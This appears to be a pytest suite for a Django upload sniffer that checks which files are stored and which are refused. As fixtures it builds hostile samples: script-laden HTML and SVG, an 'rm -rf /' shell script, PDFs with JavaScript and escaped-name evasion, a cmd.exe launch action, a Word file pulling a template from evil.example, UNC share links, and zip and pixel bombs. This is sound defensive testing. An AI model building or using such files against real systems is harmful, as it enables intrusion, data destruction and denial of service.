"""A hostile corpus: what is stored, what is refused and why, and that nothing passes by its name alone."""

import re
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from nominations.dossiers import documents, pictures
from nominations.dossiers.files import FileRefused, shown_name, sniff
from tests import factories

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'

EMPTY = "empty"
KIND = "only PDF, Word, Excel"
NAME = "its content is not what its name says"
LARGE = "it is larger than"
CUT = "cut off or something else"
ACTIVE = "the PDF contains active content"
MACROS = "macros, embedded objects or links"
BROKEN_PDF = "the PDF cannot be read"
BROKEN_DOCUMENT = "the document cannot be read"
BROKEN_PICTURE = "the picture cannot be read"
PIXELS = "more than 25 million pixels"
LOCKED = "protected by a password"


@pytest.fixture(autouse=True)
def _english(settings):
    settings.LANGUAGE_CODE = "en"


def office(*, main=WORD_MAIN, extra=(), relations="", types="", comment=b"", first=()) -> bytes:
    """Write an office file with the parts that the sniffer reads, and any others."""
    table = f'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for path, content in first:
            archive.writestr(path, content)
        archive.writestr("[Content_Types].xml", table)
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/_rels/document.xml.rels", f"<Relationships>{relations}</Relationships>")
        for path, content in extra:
            archive.writestr(path, content)
        archive.comment = comment
    return out.getvalue()


def pdf_with(change, **options) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    change(document)
    out = BytesIO()
    document.save(out, **options)
    return out.getvalue()


def script(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launch(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=action)])


def page_script(document):
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))


def attachment(document):
    document.attachments["virus.exe"] = b"MZ"


def form(document):
    document.Root.AcroForm = document.make_indirect(pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>")))


def hex_escaped() -> bytes:
    """The same script, its names written with escapes, as only a reader of PDF sees them."""
    plain = pdf_with(script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"/JavaScript" in plain
    return plain.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


def opens_on_page_one(document):
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def png_bomb() -> bytes:
    """A few bytes that promise 60,000 × 60,000 pixels."""

    def chunk(kind, body):
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = (60_000).to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 999))
        + chunk(b"IEND", b"")
    )


REFUSED = {
    "empty": ("bao-cao.pdf", b"", EMPTY),
    "text called PDF": ("bao-cao.pdf", b"Kinh gui Vu To chuc can bo", KIND),
    "HTML called PDF": ("bao-cao.pdf", b"<!DOCTYPE html><script>alert(1)</script>", KIND),
    "HTML": ("bao-cao.html", b"<!DOCTYPE html><script>alert(1)</script>", KIND),
    "SVG": ("anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', KIND),
    "SVG called PNG": ("anh.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', KIND),
    "GIF": ("anh.gif", factories.picture(format="GIF"), KIND),
    "TIFF called JPEG": ("anh.jpg", factories.picture(format="TIFF"), KIND),
    "PostScript called JPEG": ("anh.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", KIND),
    "program": ("bao-cao.pdf", b"MZ\x90\0" + b"\0" * 200, KIND),
    "shell script": ("bao-cao.docx", b"#!/bin/sh\nrm -rf /\n", KIND),
    "old Word": ("bao-cao.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, KIND),
    "rich text": ("bao-cao.rtf", rb"{\rtf1\ansi}", KIND),
    "ZIP called Word": ("bao-cao.docx", office(main="text/plain"), KIND),
    "PNG called JPEG": ("anh.jpg", factories.picture(), NAME),
    "PDF called Word": ("bao-cao.docx", factories.pdf(), NAME),
    "PDF without an ending": ("baocao", factories.pdf(), NAME),
    "PDF with a second ending": ("bao-cao.pdf.exe", factories.pdf(), NAME),
    "Word called Excel": ("bang.xlsx", office(), NAME),
    "ending behind a direction mark": ("bao-cao\u202efdp.exe", factories.pdf(), NAME),
    "too large": ("bao-cao.pdf", b"%PDF-1.7" + b"\0" * 20 * 1024 * 1024, LARGE),
    "cut-off PDF": ("bao-cao.pdf", factories.pdf()[:-60], CUT),
    "head of a PDF": ("bao-cao.pdf", b"%PDF-1.7\n%%EOF", BROKEN_PDF),
    "rubbish between head and end": (
        "bao-cao.pdf",
        b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF",
        BROKEN_PDF,
    ),
    "PDF without pages": ("bao-cao.pdf", pdf_with(lambda d: d.pages.__delitem__(0)), BROKEN_PDF),
    "PDF and ZIP in one": (
        "bao-cao.pdf",
        factories.pdf() + office(extra=[("x", bytes(range(256)) * 40)]),
        CUT,
    ),
    "PDF and HTML in one": ("bao-cao.pdf", factories.pdf() + b"<script>alert(1)</script>" * 50, CUT),
    "PDF with a script": ("bao-cao.pdf", pdf_with(script), ACTIVE),
    "PDF with a packed script": (
        "bao-cao.pdf",
        pdf_with(
            lambda d: (script(d), d.make_indirect(d.Root.OpenAction)),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        ACTIVE,
    ),
    "PDF with an escaped script": ("bao-cao.pdf", hex_escaped(), ACTIVE),
    "PDF with a page script": ("bao-cao.pdf", pdf_with(page_script), ACTIVE),
    "PDF that starts a program": ("bao-cao.pdf", pdf_with(launch), ACTIVE),
    "PDF that carries a file": ("bao-cao.pdf", pdf_with(attachment), ACTIVE),
    "PDF with a dynamic form": ("bao-cao.pdf", pdf_with(form), ACTIVE),
    "PDF with a password": (
        "bao-cao.pdf",
        pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="u")),
        LOCKED,
    ),
    "Word with macros": ("bao-cao.docx", office(main=MACRO_MAIN), KIND),
    "Word with a hidden macro": ("bao-cao.docx", office(extra=[("word/vbaProject.bin", b"x")]), MACROS),
    "Word with an object": ("bao-cao.docx", office(extra=[("word/embeddings/oleObject1.bin", b"x")]), MACROS),
    "Word with a control": ("bao-cao.docx", office(extra=[("word/activeX/activeX1.xml", "x")]), MACROS),
    "Word that loads a template": (
        "bao-cao.docx",
        office(
            relations=RELATION.format(
                "attachedTemplate", "https://evil.example/t.dotm", ' TargetMode="External"'
            )
        ),
        MACROS,
    ),
    "Word that loads from a share": (
        "bao-cao.docx",
        office(
            relations=RELATION.format("oleObject", r"file://///10.0.0.1/x", ' TargetMode="External"')
            + RELATION.format("frame", r"\\10.0.0.1\x", ' TargetMode="External"')
        ),
        MACROS,
    ),
    "Word that is both": ("bao-cao.docx", office(types=f'<Override ContentType="{EXCEL_MAIN}"/>'), KIND),
    "Word with entities": ("bao-cao.docx", office(types='<!DOCTYPE x [<!ENTITY a "b">]>'), KIND),
    "Word that unfolds endlessly": (
        "bao-cao.docx",
        office(extra=[("word/big.xml", b"\0" * (201 * 1024 * 1024))]),
        BROKEN_DOCUMENT,
    ),
    "Word of too many parts": (
        "bao-cao.docx",
        office(extra=[(f"word/{n}.xml", "") for n in range(5001)]),
        BROKEN_DOCUMENT,
    ),
    "Word with a tail": ("bao-cao.docx", office(comment=b"<script>"), BROKEN_DOCUMENT),
    "cut-off Word": ("bao-cao.docx", office()[:-40], KIND),
    "head of a ZIP": ("bao-cao.docx", b"PK\x03\x04", KIND),
    "cut-off PNG": ("anh.png", factories.picture((400, 400))[:-200], BROKEN_PICTURE),
    "cut-off JPEG": ("anh.jpg", factories.picture((400, 400), format="JPEG")[:600], BROKEN_PICTURE),
    "head of a WebP": ("anh.webp", b"RIFF\x10\0\0\0WEBPVP8 ", BROKEN_PICTURE),
    "picture that unfolds endlessly": ("anh.png", png_bomb(), PIXELS),
}


@pytest.mark.parametrize("case", REFUSED)
def test_refuses(case):
    name, content, words = REFUSED[case]

    with pytest.raises(FileRefused, match=re.escape(words)) as refusal:
        sniff(SimpleUploadedFile(name, content))
    assert f"“{shown_name(name)}”" in str(refusal.value.message)


def test_refuses_what_is_larger_than_it_said():
    upload = SimpleUploadedFile("bao-cao.pdf", b"%PDF-1.7" + b"\0" * 20 * 1024 * 1024)
    upload.size = 8

    with pytest.raises(FileRefused, match=LARGE):
        sniff(upload)


def test_refuses_one_file_too_many(settings):
    with pytest.raises(FileRefused, match="20 files at most"):
        sniff(factories.upload(), already=settings.EVIDENCE_MAX_FILES)


KEPT_AS_THEY_ARE = {
    "PDF": ("bao-cao.pdf", factories.pdf(), "application/pdf"),
    "PDF in capitals": ("BAO CAO.PDF", factories.pdf(), "application/pdf"),
    "PDF that opens on page one": ("a.pdf", pdf_with(opens_on_page_one), "application/pdf"),
    "PDF that may not be printed": (
        "a.pdf",
        pdf_with(lambda d: None, encryption=pikepdf.Encryption(owner="o", user="")),
        "application/pdf",
    ),
    "PDF with a line end behind it": ("a.pdf", factories.pdf() + b"\r\n\r\n", "application/pdf"),
    "Word": ("bao-cao.docx", office(), documents.WORD),
    "Word in another order": (
        "a.docx",
        office(first=[("mimetype", "x"), ("docProps/app.xml", "<x/>")]),
        documents.WORD,
    ),
    "Word with a link": (
        "a.docx",
        office(relations=RELATION.format("hyperlink", "https://example.vn", ' TargetMode="External"')),
        documents.WORD,
    ),
    "Word on a ministry's template": (
        "a.docx",
        office(
            relations=RELATION.format(
                "attachedTemplate", r"file:///C:\Mau\mau.dotx", ' TargetMode="External"'
            )
        ),
        documents.WORD,
    ),
    "Excel": (
        "bang.xlsx",
        office(main=EXCEL_MAIN, extra=[("xl/printerSettings/printerSettings1.bin", b"x")]),
        documents.EXCEL,
    ),
}


@pytest.mark.parametrize("case", KEPT_AS_THEY_ARE)
def test_keeps_a_document_as_it_is(case):
    name, content, media_type = KEPT_AS_THEY_ARE[case]

    kept = sniff(SimpleUploadedFile(name, content))

    assert (kept.media_type, kept.content.read(), kept.size) == (media_type, content, len(content))


def gps_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x0110] = "SECRETPHONE"
    exif[0x0112] = 6  # turned by a quarter
    exif.get_ifd(0x8825)[2] = (21.0, 1.0, 42.0)
    return exif


@pytest.mark.parametrize(("format", "ending"), [("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")])
def test_takes_place_and_device_out_of_a_picture_and_turns_it_upright(format, ending):
    original = factories.picture((40, 50), format=format, exif=gps_exif())
    assert b"SECRETPHONE" in original

    kept = sniff(SimpleUploadedFile(f"anh.{ending}", original)).content.read()

    assert b"SECRETPHONE" not in kept
    with Image.open(BytesIO(kept)) as picture:
        assert (picture.format, picture.size, dict(picture.getexif())) == (format, (50, 40), {})


def test_takes_comments_and_text_out_of_a_picture():
    text = Image.new("RGB", (9, 9))
    text.info["comment"] = b"SECRETNOTE"
    out = BytesIO()
    text.save(out, "JPEG", comment=b"SECRETNOTE")
    assert b"SECRETNOTE" in out.getvalue()

    kept = sniff(SimpleUploadedFile("anh.jpg", out.getvalue() + b"SECRETTAIL")).content.read()

    assert b"SECRET" not in kept


@pytest.mark.parametrize(
    ("mode", "format", "ending", "kept_mode"),
    [
        ("P", "PNG", "png", "P"),
        ("1", "PNG", "png", "1"),
        ("L", "PNG", "png", "L"),
        ("LA", "PNG", "png", "LA"),
        ("RGBA", "PNG", "png", "RGBA"),
        ("I;16", "PNG", "png", "I;16"),
        ("RGBA", "WEBP", "webp", "RGBA"),
        ("L", "JPEG", "jpg", "L"),
        ("CMYK", "JPEG", "jpeg", "RGB"),
    ],
)
def test_accepts_pictures_of_every_colour_mode(mode, format, ending, kept_mode):
    kept = sniff(SimpleUploadedFile(f"anh.{ending}", factories.picture(format=format, mode=mode)))

    with Image.open(kept.content) as picture:
        assert (picture.format, picture.mode, picture.size) == (format, kept_mode, (40, 50))


def test_keeps_the_transparency_of_a_palette():
    original = Image.new("P", (9, 9))
    out = BytesIO()
    original.save(out, "PNG", transparency=0)

    kept = sniff(SimpleUploadedFile("anh.png", out.getvalue()))

    with Image.open(kept.content) as picture:
        assert picture.convert("RGBA").getpixel((0, 0))[3] == 0


@given(cut=st.integers(0, 2000), noise=st.binary(max_size=12), at=st.integers(0, 2000))
def test_a_damaged_file_is_refused_or_kept_and_never_breaks_the_request(cut, noise, at):
    originals = [
        ("a.pdf", factories.pdf("x")),
        ("a.docx", office()),
        ("a.png", factories.picture()),
        ("a.jpg", factories.picture(format="JPEG")),
        ("a.webp", factories.picture(format="WEBP")),
    ]
    for name, content in originals:
        damaged = (
            content[: at % len(content)]
            + noise
            + content[at % len(content) + len(noise) : len(content) - cut % 9]
        )
        try:
            assert sniff(SimpleUploadedFile(name, damaged)).size > 0
        except FileRefused as refusal:
            assert name in str(refusal.message)


LONG = "Báo cáo thành tích của đồng chí Nguyễn Thị Mẫu " * 9


@pytest.mark.parametrize(
    ("given_name", "shown"),
    [
        ("Báo cáo.pdf", "Báo cáo.pdf"),
        ("Ba\u0301o ca\u0301o.pdf", "Báo cáo.pdf"),
        (r"C:\Users\mau\bao-cao.pdf", "bao-cao.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("bao\u202ecao\u200f\u2066.pdf", "baocao.pdf"),
        ("bao\0cao\r\n.pdf", "baocao.pdf"),
        ("bao\u2028cao\ue000.pdf", "baocao.pdf"),
        ("  .pdf ", ".pdf"),
        ("", "tep"),
        ("\u202e", "tep"),
        (f"{LONG[:396]}.pdf", f"{LONG[:251]}.pdf"),
        ("a." + "b" * 400, "a." + "b" * 253),
    ],
)
def test_shows_a_name_that_is_safe_to_show(given_name, shown):
    assert shown_name(given_name) == shown


@given(st.text(max_size=600))
def test_a_shown_name_is_short_and_stays_as_it_is(name):
    shown = shown_name(name)

    assert 0 < len(shown) <= 255
    assert shown_name(shown) == shown
    assert not set(shown) & set("/\\\0\r\n\u202e\u2066")


def test_decoders_are_only_those_of_the_sniffed_kind():
    with pytest.raises(FileRefused, match=BROKEN_PICTURE):
        pictures.reencode(factories.picture(format="GIF"), "image/png", "anh.png")
